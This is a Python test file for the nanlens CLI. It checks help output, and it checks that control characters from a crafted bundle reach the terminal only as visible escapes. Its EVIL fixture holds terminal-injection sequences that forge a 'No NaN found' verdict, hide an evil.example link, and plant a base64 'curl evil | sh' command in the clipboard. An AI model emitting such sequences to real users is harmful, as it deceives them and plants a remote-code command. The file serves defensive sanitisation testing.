"""The CLI as a user meets it: `nanlens --help`, `python -m pyadapter --help`, every verb's --help."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from pyadapter.cli import VERBS

VENV_BIN = Path(sys.executable).parent


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, capture_output=True, text=True, timeout=120)


def test_console_script_help_lists_every_verb() -> None:
    nanlens = VENV_BIN / "nanlens"
    assert nanlens.exists(), "set-up must install the console script into the venv"
    result = run(str(nanlens), "--help")
    assert result.returncode == 0, result.stderr
    for verb in VERBS:
        assert verb in result.stdout


def test_module_entry_point_help() -> None:
    result = run(sys.executable, "-m", "pyadapter", "--help")
    assert result.returncode == 0, result.stderr
    assert "usage: nanlens" in result.stdout


@pytest.mark.parametrize("verb", VERBS)
def test_every_verb_has_help_and_does_not_import_tensorflow(verb: str) -> None:
    # --help must be instant: a verb's module may not import TensorFlow, nor numpy (0.1 s), at import time.
    code = (
        "import sys\n"
        "from pyadapter.cli import main\n"
        "try:\n"
        f"    main([{verb!r}, '--help'])\n"
        "except SystemExit as e:\n"
        "    assert e.code == 0, e.code\n"
        "assert 'tensorflow' not in sys.modules, 'tensorflow imported by --help'\n"
        "assert 'numpy' not in sys.modules, 'numpy imported by --help'\n"
    )
    result = run(sys.executable, "-c", code)
    assert result.returncode == 0, result.stderr
    assert f"nanlens {verb}" in result.stdout


def test_no_verb_prints_usage_and_fails() -> None:
    result = run(sys.executable, "-m", "pyadapter")
    assert result.returncode != 0
    assert "usage: nanlens" in result.stdout


def test_unknown_verb_is_one_clear_error() -> None:
    result = run(sys.executable, "-m", "pyadapter", "frobnicate")
    assert result.returncode == 2
    assert "invalid choice" in result.stderr
    assert "Traceback" not in result.stderr


# --- what the terminal is sent -------------------------------------------------------------------------------------

# What a crafted findings.json or manifest may hold: retitle the window, erase the line and write a false verdict
# over it, set the clipboard (OSC 52), hide a link (OSC 8), reverse what follows (U+202E).
EVIL = (
    "\x1b]0;PWNED\x07\x1b[2K\r\x1b[32mNo NaN found, all good\x1b[0m"
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\u202e\x9b"
)
RAW = ("\x1b", "\x07", "\r", "\u202e", "\x9b")


def test_printable_shows_control_characters_and_keeps_the_rest() -> None:
    from pyadapter.printable import printable

    assert printable("a\x1b[2Kb\rc\x07\x7f\x85\u2028\u202e\u2067") == (
        "a\\x1b[2Kb\\x0dc\\x07\\x7f\\x85\\u2028\\u202e\\u2067"
    )
    assert printable("line 1\n\tline 2 — ünïcode 日本") == "line 1\n\tline 2 — ünïcode 日本"


def _stand_in_locate(monkeypatch: pytest.MonkeyPatch, answer: object) -> None:
    """`nanlens locate` with its replay machinery (which imports TensorFlow) replaced by a module that answers
    what a crafted bundle would make it answer: its findings, or its one-line error."""
    import types

    from pyadapter.replay.errors import ReplayError

    def locate_bundle(path: str, **_: object) -> object:
        if isinstance(answer, str):
            raise ReplayError(answer)
        return answer

    module = types.ModuleType("pyadapter.replay.locate")
    module.locate_bundle = locate_bundle  # type: ignore[attr-defined]
    module.RERUN_PHASE = "re-running the input pipeline under a dump"  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "pyadapter.replay.locate", module)


def test_a_bundles_control_characters_reach_the_terminal_only_as_visible_escapes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from pyadapter.cli import main
    from pyadapter.findings import Finding, Findings, Frame, OpRef, TensorHealth

    origin = Finding(
        file=f"/w/{EVIL}/train.py",
        line=12,
        role="origin",
        op=OpRef(name=EVIL, type="Log", graph=EVIL),
        health=TensorHealth(dtype="float32", size=16, nan=16),
        stack=[Frame("/w/train.py", 12, "loss")],
        message=f"msg {EVIL}",
    )
    findings = Findings("bundle", str(tmp_path), origin, [origin], bundle={"step": 0, "route": EVIL})
    findings.extra["warnings"] = [EVIL]
    _stand_in_locate(monkeypatch, findings)
    assert main(["locate", str(tmp_path)]) == 0
    out, err = capsys.readouterr()
    assert not [c for c in RAW if c in out + err]
    assert "op: \\x1b]0;PWNED\\x07\\x1b[2K\\x0d\\x1b[32mNo NaN found" in out  # shown, not obeyed
    assert "msg \\x1b]0;PWNED" in out and "\\u202e\\x9b" in out

    # The one-line error names the bundle's program, whose path the manifest chose.
    _stand_in_locate(monkeypatch, f"the bundle's program /opt/{EVIL}/train.py is missing")
    assert main(["locate", str(tmp_path)]) == 2
    out, err = capsys.readouterr()
    assert not [c for c in RAW if c in out + err]
    assert err.startswith("nanlens: error: the bundle's program /opt/\\x1b]0;PWNED\\x07")
    assert err.count("\n") == 1
